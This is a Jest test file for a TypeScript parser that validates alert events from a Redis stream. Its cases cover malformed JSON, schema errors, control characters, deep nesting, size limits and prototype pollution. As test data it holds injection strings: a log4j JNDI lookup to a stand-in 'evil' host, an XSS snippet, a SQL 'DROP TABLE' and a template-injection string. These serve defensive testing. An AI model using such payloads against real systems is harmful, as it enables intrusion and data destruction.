// parseEntry: the ingest's gate between the Redis stream and Temporal. Every malformed or hostile entry
// must become an InvalidEntryError whose reason names the problem; valid input must pass through unchanged.
import { parseEntry, type EntryLimits } from '../src/alert-event';
import { InvalidEntryError } from '../src/errors';
import type { AlertEvent } from '../src/contracts/alert';

const LIMITS: EntryLimits = { maxEventBytes: 262_144 };

const VALID: AlertEvent = {
  alertId: 'alert-0001',
  ruleId: 'rule-cpu',
  ruleName: 'CPU high',
  severity: 'critical',
  title: 'CPU at 99% on host-1',
  view: 'prod',
  scope: 'host-1',
  firedAt: '2026-01-15T10:20:30Z',
};

type Fields = string[] | null;

/** The flat XREADGROUP field list for an event: VALID with `over` applied (a key set to undefined is removed). */
function entry(over: Record<string, unknown> = {}): string[] {
  return ['event', JSON.stringify({ ...VALID, ...over })];
}

function without(key: keyof AlertEvent): string[] {
  const copy: Record<string, unknown> = { ...VALID };
  delete copy[key];
  return ['event', JSON.stringify(copy)];
}

/** `depth` nested JSON arrays, built as text (JSON.stringify itself would overflow the stack on this). */
function nestedArrayText(depth: number): string {
  return '['.repeat(depth) + ']'.repeat(depth);
}

/** The reason parseEntry rejected the entry with; fails the test if it accepted it or threw something else. */
function reasonFor(fields: Fields, limits: EntryLimits = LIMITS): string {
  let thrown: unknown;
  try {
    parseEntry(fields, limits);
  } catch (e) {
    thrown = e;
  }
  if (thrown === undefined) throw new Error('parseEntry accepted the entry');
  expect(thrown).toBeInstanceOf(InvalidEntryError);
  const reason = (thrown as InvalidEntryError).reason;
  expect((thrown as InvalidEntryError).message).toBe(reason);
  return reason;
}

const manyLabels = (n: number) => Object.fromEntries(Array.from({ length: n }, (_, i) => [`k${i}`, `v${i}`]));
const SCHEMA = /^"event" fails the AlertEvent schema: /;

describe('parseEntry rejects bad input with a reason that names the problem', () => {
  const cases: [string, Fields, RegExp, EntryLimits?][] = [
    // ---- the entry itself ----
    ['fields null (entry deleted before it was read)', null, /deleted from the stream/],
    ['no fields at all', [], /no "event" field \(fields present: none\)/],
    ['other fields only', ['payload', '{}', 'source', 'x'], /no "event" field \(fields present: payload, source\)/],
    ['field name is case-sensitive ("Event")', ['Event', JSON.stringify(VALID)], /no "event" field \(fields present: Event\)/],
    ['odd-length list: "event" with no value', ['event'], /no "event" field/],
    // ---- not JSON / not an object ----
    ['empty string', ['event', ''], /"event" is not valid JSON/],
    ['not JSON', ['event', 'CPU is high!'], /"event" is not valid JSON/],
    ['truncated JSON', ['event', JSON.stringify(VALID).slice(0, 40)], /"event" is not valid JSON/],
    ['JSON with a trailing comma', ['event', '{"alertId":"a",}'], /"event" is not valid JSON/],
    ['JSON string', ['event', '"hello"'], /\(event\): .*expected object, received string/],
    ['JSON number', ['event', '42'], /\(event\): .*expected object, received number/],
    ['JSON array', ['event', JSON.stringify([VALID])], /\(event\): .*expected object, received array/],
    ['JSON null', ['event', 'null'], /\(event\): .*expected object, received null/],
    ['JSON boolean', ['event', 'true'], /\(event\): .*expected object, received boolean/],
    // fields smuggled in through "__proto__" are not the event's own fields
    ['fields only under "__proto__"', ['event', `{"__proto__":${JSON.stringify(VALID)}}`], /alertId: .*received undefined/],
    // ---- missing required fields ----
    ...(['alertId', 'ruleId', 'ruleName', 'title', 'view', 'scope', 'firedAt'] as const).map(
      (k): [string, Fields, RegExp] => [`missing ${k}`, without(k), new RegExp(`${SCHEMA.source}${k}: Invalid input: expected string, received undefined`)],
    ),
    ['missing severity', without('severity'), /severity: Invalid option: expected one of "critical"\|"high"\|"medium"\|"low"\|"info"/],
    // ---- wrong types ----
    ['severity is a number', entry({ severity: 1 }), /severity: Invalid option/],
    ['labels is an array', entry({ labels: ['team=infra'] }), /labels: Invalid input: expected record, received array/],
    ['label value is a number', entry({ labels: { team: 'infra', priority: 1 } }), /labels\.priority: Invalid input: expected string, received number/],
    ['label value is an object', entry({ labels: { team: { name: 'infra' } } }), /labels\.team: Invalid input: expected string, received object/],
    ['channels is a string', entry({ channels: 'ops' }), /channels: Invalid input: expected array, received string/],
    ['channels holds a number', entry({ channels: ['ops', 7] }), /channels\.1: Invalid input: expected string, received number/],
    ['alertId is a number', entry({ alertId: 1234 }), /alertId: Invalid input: expected string, received number/],
    ['title is null', entry({ title: null }), /title: Invalid input: expected string, received null/],
    ['firedAt is epoch millis', entry({ firedAt: 1768472430000 }), /firedAt: Invalid input: expected string, received number/],
    // ---- bad values ----
    ['unknown severity "urgent"', entry({ severity: 'urgent' }), /severity: Invalid option/],
    ['severity in upper case', entry({ severity: 'CRITICAL' }), /severity: Invalid option/],
    ['empty alertId', entry({ alertId: '' }), /alertId: must not be empty/],
    ['whitespace-only alertId', entry({ alertId: '   ' }), /alertId: must not be empty/],
    ['whitespace-only ruleId (tab, newline)', entry({ ruleId: '\t\n ' }), /ruleId: must not be empty/],
    ['empty view', entry({ view: '' }), /view: must not be empty/],
    ['empty scope', entry({ scope: '' }), /scope: must not be empty/],
    ['empty title', entry({ title: '' }), /title: must not be empty/],
    ['title over 1024 characters', entry({ title: 'x'.repeat(1025) }), /title: Too big: .*1024/],
    ['alertId over 256 characters', entry({ alertId: 'a'.repeat(257) }), /alertId: Too big: .*256/],
    ['description over 16 KiB', entry({ description: 'd'.repeat(16 * 1024 + 1) }), /description: Too big: .*16384/],
    ['empty channel name', entry({ channels: [''] }), /channels\.0: must not be empty/],
    ['33 channels', entry({ channels: Array.from({ length: 33 }, (_, i) => `c${i}`) }), /channels: Too big: .*32/],
    ['65 labels', entry({ labels: manyLabels(65) }), /labels: at most 64 labels/],
    ['label key over 128 characters', entry({ labels: { ['k'.repeat(129)]: 'v' } }), /labels\.k{129}: Too big: expected string to have <=128 characters/],
    ['empty label key', entry({ labels: { '': 'v' } }), /labels\.: must not be empty/],
    ['ANSI escape in a label key', entry({ labels: { '\u001b[2Jteam': 'v' } }), /labels\.\\u001b\[2Jteam: must not contain control characters/],
    // ---- dates ----
    ['firedAt "yesterday"', entry({ firedAt: 'yesterday' }), /firedAt: Invalid ISO datetime/],
    ['firedAt month 13, day 45', entry({ firedAt: '2026-13-45T00:00:00Z' }), /firedAt: Invalid ISO datetime/],
    ['firedAt 30 February', entry({ firedAt: '2026-02-30T00:00:00Z' }), /firedAt: Invalid ISO datetime/],
    ['firedAt without a time zone', entry({ firedAt: '2026-01-15T10:20:30' }), /firedAt: Invalid ISO datetime/],
    ['firedAt date only', entry({ firedAt: '2026-01-15' }), /firedAt: Invalid ISO datetime/],
    ['firedAt in RFC 2822 form', entry({ firedAt: 'Thu, 15 Jan 2026 10:20:30 GMT' }), /firedAt: Invalid ISO datetime/],
    // ---- control characters ----
    ['NUL in title', entry({ title: 'CPU\u0000high' }), /title: must not contain control characters/],
    ['ANSI escape in title', entry({ title: '\u001b[31mCPU high\u001b[0m' }), /title: must not contain control characters/],
    ['newline inside title', entry({ title: 'CPU high\nFAKE: all clear' }), /title: must not contain control characters/],
    ['C1 control (NEL) in ruleName', entry({ ruleName: 'CPU\u0085high' }), /ruleName: must not contain control characters/],
    ['NUL in alertId', entry({ alertId: 'alert\u00001' }), /alertId: must not contain control characters/],
    ['ANSI escape in alertId', entry({ alertId: '\u001b[31malert-1' }), /alertId: must not contain control characters/],
    ['BEL in description', entry({ description: 'line 1\u0007' }), /description: must not contain control characters other than tab and newline/],
    ['NUL in a label value', entry({ labels: { team: 'in\u0000fra' } }), /labels\.team: must not contain control characters/],
    // ---- deep nesting: JSON.parse and the schema must reject it without a stack overflow ----
    ['10000-deep array as description', ['event', JSON.stringify(VALID).replace(/}$/, `,"description":${nestedArrayText(10_000)}}`)], /description: Invalid input: expected string, received array/],
    ['10000-deep array as the event', ['event', nestedArrayText(10_000)], /\(event\): .*expected object, received array/],
    ['10000-deep array as a label value', ['event', JSON.stringify(VALID).replace(/}$/, `,"labels":{"x":${nestedArrayText(10_000)}}}`)], /labels\.x: Invalid input: expected string, received array/],
    // ---- size ----
    ['event over maxEventBytes', entry({ description: 'x'.repeat(2000) }), /"event" is \d+ bytes, over the limit of 1024/, { maxEventBytes: 1024 }],
    // counted in UTF-8 bytes, not characters: 400 × "€" is 400 characters but 1200 bytes
    ['event over maxEventBytes in bytes, not characters', entry({ description: '€'.repeat(400) }), /"event" is \d+ bytes, over the limit of 1024/, { maxEventBytes: 1024 }],
  ];

  it('has a broad table', () => expect(cases.length).toBeGreaterThanOrEqual(30));

  // Rows are padded to four values: jest treats a test function with more parameters than the row has as callback-style.
  it.each(cases.map(([name, fields, reason, limits]) => [name, fields, reason, limits ?? LIMITS] as const))('%s', (_name, fields, reason, limits) => {
    expect(reasonFor(fields, limits)).toMatch(reason);
  });

  it('rejects a 10000-deep array quickly and without a RangeError', () => {
    const t0 = Date.now();
    let thrown: unknown;
    try {
      parseEntry(['event', JSON.stringify(VALID).replace(/}$/, `,"description":${nestedArrayText(10_000)}}`)], LIMITS);
    } catch (e) {
      thrown = e;
    }
    expect(thrown).toBeInstanceOf(InvalidEntryError);
    expect((thrown as Error).message).not.toMatch(/call stack/i);
    expect(Date.now() - t0).toBeLessThan(1000);
  });

  it('checks the size before parsing: an oversized entry that is not even JSON is reported as too large', () => {
    expect(reasonFor(['event', '{'.repeat(2048)], { maxEventBytes: 1024 })).toMatch(/is 2048 bytes, over the limit of 1024/);
  });

  it('reports at most five schema issues', () => {
    const reason = reasonFor(['event', '{}']);
    expect(reason).toMatch(SCHEMA);
    expect(reason.split('; ')).toHaveLength(5);
  });
});

describe('parseEntry accepts valid input', () => {
  it('a minimal event (required fields only)', () => {
    expect(parseEntry(entry(), LIMITS)).toEqual(VALID);
  });

  it('a full event with labels, channels and a multi-line description', () => {
    const full: AlertEvent = {
      ...VALID,
      severity: 'info',
      description: 'Line one\nLine two\r\n\tindented line\n',
      labels: { team: 'infra', region: 'eu-west-1', empty: '' },
      channels: ['ops-webhook', 'pager'],
      firedAt: '2026-01-15T10:20:30.123+02:00',
    };
    expect(parseEntry(['event', JSON.stringify(full)], LIMITS)).toEqual(full);
  });

  it('takes "event" wherever it is in the field list', () => {
    expect(parseEntry(['source', 'rules-engine', 'event', JSON.stringify(VALID), 'v', '1'], LIMITS)).toEqual(VALID);
  });

  it('accepts every severity', () => {
    for (const severity of ['critical', 'high', 'medium', 'low', 'info'] as const) {
      expect(parseEntry(entry({ severity }), LIMITS).severity).toBe(severity);
    }
  });

  it.each([
    ['Mustache/Jinja template', 'CPU at {{7*7}}% {{ config.items() }}'],
    ['JS template literal', 'Leak ${process.env} ${require("child_process")}'],
    ['HTML', '<script>alert(1)</script><img src=x onerror=alert(1)>'],
    ['SQL', "x'; DROP TABLE alerts;--"],
    ['printf / log4j', '%s%s%n ${jndi:ldap://evil/a}'],
    ['emoji', '🔥 CPU at 99% 🚨👩‍💻'],
    ['Arabic (RTL)', 'تنبيه: استخدام المعالج مرتفع'],
    ['Hebrew (RTL)', 'התראה: עומס מעבד גבוה'],
    ['CJK', '服务器 CPU 使用率过高 — サーバー負荷 — 서버 경고'],
    ['combining marks', 'Zalgo: Z̷̢a̵͝l̸g̶o̴'],
  ])('keeps a %s title verbatim', (_name, title) => {
    const ev = parseEntry(entry({ title, ruleName: title, description: title }), LIMITS);
    expect(ev.title).toBe(title);
    expect(ev.ruleName).toBe(title);
    expect(ev.description).toBe(title);
  });

  it('strips unknown keys (they never reach the workflow)', () => {
    const ev = parseEntry(entry({ extra: 'x', nested: { deep: [1, 2, 3] }, constructor: 'y' }), LIMITS);
    expect(ev).toEqual(VALID);
    expect(Object.keys(ev)).not.toEqual(expect.arrayContaining(['extra']));
    expect(Object.prototype.hasOwnProperty.call(ev, 'extra')).toBe(false);
    expect(Object.prototype.hasOwnProperty.call(ev, 'nested')).toBe(false);
    expect(Object.prototype.hasOwnProperty.call(ev, 'constructor')).toBe(false);
  });

  it('trims surrounding whitespace from ids and one-line text (documented behaviour)', () => {
    const ev = parseEntry(entry({ alertId: '  alert-0001\t', title: ' CPU high \n' }), LIMITS);
    expect(ev.alertId).toBe('alert-0001');
    expect(ev.title).toBe('CPU high');
  });

  it('uses the last "event" when the field appears twice', () => {
    const first = JSON.stringify({ ...VALID, alertId: 'first' });
    const second = JSON.stringify({ ...VALID, alertId: 'second' });
    expect(parseEntry(['event', first, 'event', second], LIMITS).alertId).toBe('second');
  });

  it('accepts values exactly at the limits', () => {
    const ev = parseEntry(entry({ title: 't'.repeat(1024), alertId: 'a'.repeat(256), labels: manyLabels(64), channels: Array.from({ length: 32 }, (_, i) => `c${i}`) }), LIMITS);
    expect(ev.title).toHaveLength(1024);
    expect(Object.keys(ev.labels!)).toHaveLength(64);
    const exact = entry()[1];
    expect(parseEntry(['event', exact], { maxEventBytes: Buffer.byteLength(exact) })).toEqual(VALID);
  });

  // JSON.parse makes "__proto__" an own key; copying it naively (`out[k] = v`, a deep merge) would replace the
  // labels' prototype or pollute Object.prototype for the whole process.
  it.each([
    ['a string', '"polluted"'],
    ['an object', '{"polluted":"yes","toString":"x"}'],
  ])('a "__proto__" label key with %s value cannot pollute prototypes', (_name, value) => {
    const prototypeKeys = Object.getOwnPropertyNames(Object.prototype).sort();
    const raw = JSON.stringify(VALID).replace(/}$/, `,"labels":{"__proto__":${value},"team":"infra"}}`);
    let outcome: AlertEvent | InvalidEntryError;
    try {
      outcome = parseEntry(['event', raw], LIMITS);
    } catch (e) {
      expect(e).toBeInstanceOf(InvalidEntryError); // rejecting it would be fine too
      outcome = e as InvalidEntryError;
    }
    // Object.prototype is untouched: a fresh object has the same prototype keys as before, and nothing new
    expect(Object.getOwnPropertyNames(Object.getPrototypeOf({})).sort()).toEqual(prototypeKeys);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(typeof ({} as { toString: unknown }).toString).toBe('function');
    if (outcome instanceof InvalidEntryError) {
      expect(outcome.reason).toMatch(/labels/);
    } else {
      const labels = outcome.labels!;
      expect(Object.getPrototypeOf(labels)).toBe(Object.prototype);
      expect((labels as Record<string, unknown>).polluted).toBeUndefined();
      expect(labels.team).toBe('infra');
      // the key is dropped, or kept as an own string-valued label
      expect(Object.keys(labels).filter((k) => k !== '__proto__')).toEqual(['team']);
      for (const v of Object.values(labels)) expect(typeof v).toBe('string');
    }
  });
});
